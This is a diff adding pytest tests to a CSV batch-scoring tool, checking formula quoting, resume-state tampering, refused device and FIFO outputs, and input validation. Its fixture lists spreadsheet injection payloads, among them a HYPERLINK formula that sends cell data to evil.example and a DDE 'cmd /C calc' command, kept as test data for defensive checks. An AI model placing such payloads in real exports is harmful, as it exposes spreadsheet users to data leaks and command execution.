@@ -1,12 +1,15 @@
 """batch.py never destroys data: the input is never an output, writes are atomic, one writer at a time,
 unwritable targets are one line, a killed run resumes to the same CSV, empty values are empty."""
 
+import csv
 import json
 import os
 import signal
+import stat
 import subprocess
 import sys
 import time
+from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -165,3 +168,268 @@ def test_merge_is_atomic_and_refuses_a_shard_as_output(tmp_path):
     with pytest.raises(batch.BatchInputError, match="cannot merge"):
         batch.merge([shard, tmp_path / "missing.csv"], tmp_path / "merged.csv")
     assert not (tmp_path / "merged.csv").exists() and not (tmp_path / "merged.csv.partial").exists()
+
+
+# --- issue 15: spreadsheet formulas, a resume state that lies, own files as input, devices, NULs, repeated columns ----
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"Refund here")',
+    "=cmd|' /C calc'!A0",
+    "+44 20 7946 0958 my card was charged twice",
+    "-5 stars, the parcel never arrived",
+    "@SUM(1+1) where is my order",
+    "\tI cannot log in",
+    "\rmy password reset fails",
+    "'=already quoted by the customer",  # the user's own quote is data: kept, and quoted once more on the way out
+]
+
+
+@pytest.fixture
+def formula_csv(tmp_path):
+    """Tickets and a note column (named like a formula too) that a spreadsheet would run, then plain tickets."""
+    rows = [(text, "feedback", "=1+1") for text in FORMULAS] + [(text, label, "-note") for text, label in TICKETS]
+    return write_csv(tmp_path / "formulas.csv", rows, ("text", "expected_category", "=note"))
+
+
+def raw_cells(path) -> list[str]:
+    """Every cell of a CSV as a spreadsheet would see it, header included."""
+    with open(path, newline="", encoding="utf-8") as f:
+        return [cell for row in csv.reader(f) for cell in row]
+
+
+def assert_runs_no_formula(path):
+    live = [cell for cell in raw_cells(path) if cell.startswith(model.FORMULA_STARTS)]
+    assert not live, live[:3]
+
+
+def test_formulas_are_quoted_in_the_scored_csv_and_read_back_exactly(formula_csv, tmp_path):
+    before = formula_csv.read_bytes()
+    summary = batch.report(formula_csv, tmp_path / "out.csv", progress=False)
+    assert formula_csv.read_bytes() == before  # the user's input is never changed
+    assert_runs_no_formula(tmp_path / "out.csv")
+    cells = raw_cells(tmp_path / "out.csv")
+    assert "'" + FORMULAS[0] in cells and "''=already quoted by the customer" in cells and "'=note" in cells
+    given = read(formula_csv)  # the input as read: nothing stripped from it
+    back = pd.concat(batch.read_report(tmp_path / "out.csv", 5))
+    assert list(back.columns[:3]) == ["text", "expected_category", "=note"]
+    assert list(back.text) == list(given.text) and list(back["=note"]) == list(given["=note"])
+    assert back.text[7] == "'=already quoted by the customer"
+    listed = {row["text"] for row in summary["misclassified_rows"]}  # the summary quotes the tickets as they were
+    assert FORMULAS[0] in listed and not any(text.startswith("'=HYP") for text in listed)
+
+
+def test_sharded_merge_and_baseline_read_the_quoted_reports_back(formula_csv, tmp_path):
+    whole = batch.report(formula_csv, tmp_path / "whole.csv", progress=False, html_report=False)
+    shards = [tmp_path / f"{k}-of-3.csv" for k in (1, 2, 3)]
+    batch.split(formula_csv, shards)
+    for shard in shards:
+        batch.report(shard, shard.with_suffix(".scored.csv"), progress=False, html_report=False)
+    merged = batch.merge([s.with_suffix(".scored.csv") for s in shards], tmp_path / "merged.csv", html_report=False)
+    assert (tmp_path / "merged.csv").read_bytes() == (tmp_path / "whole.csv").read_bytes()
+    assert_runs_no_formula(tmp_path / "merged.csv")
+    assert merged["misclassified_rows"] == whole["misclassified_rows"]
+
+    frame = pd.concat(batch.read_report(tmp_path / "whole.csv", 100))  # an earlier version that got the first ticket right
+    assert frame.category[0] != "feedback"
+    frame.loc[0, "category"] = "feedback"
+    with open(tmp_path / "baseline.csv", "w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([model.spreadsheet_safe(cell) for cell in row] for row in [frame.columns, *frame.itertuples(index=False)])
+    again = batch.report(formula_csv, tmp_path / "again.csv", progress=False, html_report=False, baseline=tmp_path / "baseline.csv")
+    assert again["baseline"]["changed"] == 1 and [row["text"] for row in again["baseline"]["rows"]["broken"]] == [FORMULAS[0]]
+
+
+def test_cases_report_quotes_formulas(tmp_path, monkeypatch):
+    store = tmp_path / "cases.csv"
+    monkeypatch.setenv("TRIAGE_EDGE_CASES", str(store))
+    case = {"ticket": {"text": FORMULAS[1]}, "expected": {"category": "feedback"}, "note": "=HYPERLINK(1)", "source": "file"}
+    model.save_cases([case])
+    batch.cases_report(tmp_path / "edge_cases.csv")
+    assert_runs_no_formula(tmp_path / "edge_cases.csv")
+    back = next(batch.read_report(tmp_path / "edge_cases.csv", 10))
+    assert back.note[0] == "=HYPERLINK(1)" and back.text[0] == model.load_cases(store)[0].ticket.text
+
+
+class Killed(BaseException):
+    """What a kill does to a run: it stops where it is, nothing caught, nothing cleaned."""
+
+
+def killed_run(source, out, monkeypatch, after_chunks=2, **options):
+    """A real report stopped after `after_chunks` chunks (the pipeline 'dies' on the next one): partial and state stay."""
+    real, calls = model.run_each, []
+
+    def run_each(tickets, flags=None, timings=None):
+        calls.append(1)
+        if len(calls) > after_chunks:
+            raise Killed
+        return real(tickets, flags, timings)
+
+    with monkeypatch.context() as patch:
+        patch.setattr(model, "run_each", run_each)
+        with pytest.raises(Killed):
+            batch.report(source, out, progress=False, html_report=False, **options)
+    return out.with_name(out.name + ".partial.json")
+
+
+def test_resume_of_a_killed_run_with_formulas_gives_the_uninterrupted_csv(formula_csv, tmp_path, monkeypatch):
+    batch.report(formula_csv, tmp_path / "reference.csv", progress=False, html_report=False, chunk_size=4)
+    out = tmp_path / "out.csv"
+    state = killed_run(formula_csv, out, monkeypatch, chunk_size=4)
+    assert json.loads(state.read_text())["rows_done"] == 8
+    summary = batch.report(formula_csv, out, progress=False, html_report=False, chunk_size=4, resume=True)
+    assert summary["resumed_from_row"] == 8 and summary["rows"] == 16
+    assert out.read_bytes() == (tmp_path / "reference.csv").read_bytes()
+    assert_runs_no_formula(out)
+
+
+def _tamper(state_path, partial, how):
+    state = json.loads(state_path.read_text())
+    if how == "partial-edited":  # same length, one byte changed inside what the state vouches for
+        data = bytearray(partial.read_bytes())
+        data[-40] = ord("X") if data[-40] != ord("X") else ord("Y")
+        partial.write_bytes(bytes(data))
+        return
+    if how == "partial-gone":
+        partial.unlink()
+        return
+    text = {
+        "rows-plus-1000": json.dumps({**state, "rows_done": state["rows_done"] + 1000}),
+        "rows-minus-4": json.dumps({**state, "rows_done": state["rows_done"] - 4}),
+        "bytes-minus-1": json.dumps({**state, "bytes_done": state["bytes_done"] - 1}),
+        "hash-changed": json.dumps({**state, "sha256": "0" * 64}),
+        "rows-a-string": json.dumps({**state, "rows_done": "eight"}),
+        "rows-a-bool": json.dumps({**state, "rows_done": True}),
+        "bytes-a-list": json.dumps({**state, "bytes_done": [1, 2]}),
+        "elapsed-nan": json.dumps({**state, "elapsed_s": float("nan")}),
+        "no-hash": json.dumps({k: v for k, v in state.items() if k != "sha256"}),
+        "a-list": json.dumps([state]),
+        "torn": state_path.read_text()[:25],
+        "not-json": "rows_done=8",
+    }[how]
+    state_path.write_text(text)
+
+
+@pytest.mark.parametrize(
+    "how",
+    [
+        "rows-plus-1000",
+        "rows-minus-4",
+        "bytes-minus-1",
+        "hash-changed",
+        "rows-a-string",
+        "rows-a-bool",
+        "bytes-a-list",
+        "elapsed-nan",
+        "no-hash",
+        "a-list",
+        "torn",
+        "not-json",
+        "partial-edited",
+        "partial-gone",
+    ],
+)
+def test_resume_never_trusts_a_state_the_partial_output_does_not_confirm(how, tmp_path, monkeypatch, capsys):
+    source = write_csv(tmp_path / "x.csv", [(f"{text} ({i})", label) for i, (text, label) in enumerate(TICKETS * 2)])
+    batch.report(source, tmp_path / "reference.csv", progress=False, html_report=False, chunk_size=4)
+    out = tmp_path / "out.csv"
+    state = killed_run(source, out, monkeypatch, chunk_size=4)
+    _tamper(state, tmp_path / "out.csv.partial", how)
+    capsys.readouterr()
+    summary = batch.report(source, out, progress=False, html_report=False, chunk_size=4, resume=True)
+    err = capsys.readouterr().err
+    assert err.startswith("batch.py: cannot resume (") and err.count("\n") == 1 and "starting from the first row" in err, err
+    assert "resumed_from_row" not in summary and summary["rows"] == 16
+    assert out.read_bytes() == (tmp_path / "reference.csv").read_bytes()
+
+
+def test_resume_with_a_raised_row_count_on_the_command_line_scores_every_row(tmp_path, monkeypatch):
+    source = write_csv(tmp_path / "x.csv", [(f"{text} ({i})", label) for i, (text, label) in enumerate(TICKETS * 2)])
+    out = tmp_path / "out.csv"
+    state = killed_run(source, out, monkeypatch, chunk_size=4)
+    _tamper(state, tmp_path / "out.csv.partial", "rows-plus-1000")
+    result = run_cli(source, "-o", out, "--quiet", "--chunk-size", "4", "--resume")
+    assert result.returncode == 0, result.stderr
+    assert result.stderr.count("\n") == 1 and "cannot resume (the partial output does not match its saved state)" in result.stderr
+    assert len(read(out)) == 16 and json.loads(out.with_suffix(".json").read_text())["rows"] == 16
+
+
+@pytest.mark.parametrize(("given", "extra"), [("z.csv.partial", []), ("z.csv.partial.json", ["--resume"]), (".z.csv.lock", [])])
+def test_an_input_that_is_one_of_the_runs_own_files_exits_2_and_is_kept(tmp_path, given, extra):
+    source = write_csv(tmp_path / given, TICKETS)
+    before = source.read_bytes()
+    result = run_cli(source, "-o", tmp_path / "z.csv", "--quiet", *extra)
+    assert result.returncode == 2, result.stderr
+    assert "the input is never overwritten" in result.stderr and result.stderr.count("\n") == 1, result.stderr
+    assert source.read_bytes() == before and not (tmp_path / "z.csv").exists()
+
+
+def test_an_input_hard_linked_to_the_partial_output_is_refused(tmp_path):
+    source = write_csv(tmp_path / "x.csv", TICKETS)
+    os.link(source, tmp_path / "z.csv.partial")
+    with pytest.raises(batch.BatchInputError, match="never overwritten"):
+        batch.report(source, tmp_path / "z.csv", progress=False)
+    assert read(source).shape == (len(TICKETS), 2)
+
+
+def test_an_output_that_would_write_over_a_baselines_or_shards_summary_is_refused(tmp_path):
+    source = write_csv(tmp_path / "x.csv", TICKETS)
+    batch.report(source, tmp_path / "old.csv", progress=False, html_report=False)
+    before = (tmp_path / "old.json").read_bytes()
+    with pytest.raises(batch.BatchInputError, match="never overwritten"):  # old.txt's summary would be old.json
+        batch.report(source, tmp_path / "old.txt", progress=False, baseline=tmp_path / "old.csv")
+    with pytest.raises(batch.BatchInputError, match="never overwritten"):
+        batch.merge([tmp_path / "old.csv"], tmp_path / "old.txt")
+    assert (tmp_path / "old.json").read_bytes() == before and not (tmp_path / "old.txt").exists()
+
+
+@pytest.fixture
+def dev_null_kept():
+    """/dev/null stays the character device it is; should a regression replace it (as root), it is put back."""
+    yield Path("/dev/null")
+    if not stat.S_ISCHR(os.stat("/dev/null").st_mode) and os.geteuid() == 0:
+        os.replace("/dev/null", "/tmp/replaced-dev-null")
+        os.mknod("/dev/null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
+        os.chmod("/dev/null", 0o666)
+        pytest.fail("batch.py replaced /dev/null with a regular file (put back; the file is /tmp/replaced-dev-null)")
+
+
+def test_dev_null_as_the_output_exits_2_and_stays_a_device(tmp_path, dev_null_kept):
+    source = write_csv(tmp_path / "x.csv", TICKETS)
+    around = {p.name for p in Path("/dev").iterdir()}
+    result = run_cli(source, "-o", "/dev/null", "--quiet")
+    assert result.returncode == 2 and "/dev/null: is a device, not a regular file" in result.stderr, result.stderr
+    assert result.stderr.count("\n") == 1
+    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
+    assert {p.name for p in Path("/dev").iterdir()} - around == set()  # no .json, .html, .partial or lock beside it
+
+
+@pytest.mark.parametrize("which", ["out.csv", "out.json", "out.csv.partial", "folder-as-html"])
+def test_a_fifo_or_folder_among_the_outputs_exits_2_before_anything_is_touched(tmp_path, which):
+    source = write_csv(tmp_path / "x.csv", TICKETS)
+    target = tmp_path / ("out.html" if which == "folder-as-html" else which)
+    target.mkdir() if which == "folder-as-html" else os.mkfifo(target)
+    around = sorted(p.name for p in tmp_path.iterdir())
+    result = run_cli(source, "-o", tmp_path / "out.csv", "--quiet")
+    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
+    assert f"{target}: is a {'folder' if which == 'folder-as-html' else 'FIFO'}" in result.stderr, result.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == around  # no lock, no partial, no report
+    assert target.is_dir() if which == "folder-as-html" else stat.S_ISFIFO(os.stat(target).st_mode)
+
+
+def test_a_nul_byte_past_the_first_4_kib_exits_2_naming_the_line(tmp_path):
+    lines = ["text,expected_category"] + [f"ticket number {i} about my order,order_status" for i in range(300)]
+    lines[250] = "my order\x00 never came,order_status"
+    path = tmp_path / "nul.csv"
+    path.write_bytes(("\n".join(lines) + "\n").encode())
+    assert path.read_bytes().index(b"\x00") > 4096
+    result = run_cli(path, "-o", tmp_path / "out.csv", "--quiet")
+    assert result.returncode == 2, result.stderr
+    assert "a NUL byte on line 251" in result.stderr and result.stderr.count("\n") == 1, result.stderr
+    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "out.csv.partial").exists()
+
+
+@pytest.mark.parametrize(("header", "repeated"), [("text,expected_category,text", "'text'"), ("note,text,note", "'note'")])
+def test_a_repeated_column_exits_2_naming_it(tmp_path, header, repeated):
+    path = tmp_path / "dup.csv"
+    path.write_text(f"{header}\na,b,c\n")
+    result = run_cli(path, "-o", tmp_path / "out.csv", "--quiet")
+    assert result.returncode == 2, result.stderr
+    assert f"the column {repeated} appears more than once" in result.stderr and result.stderr.count("\n") == 1, result.stderr
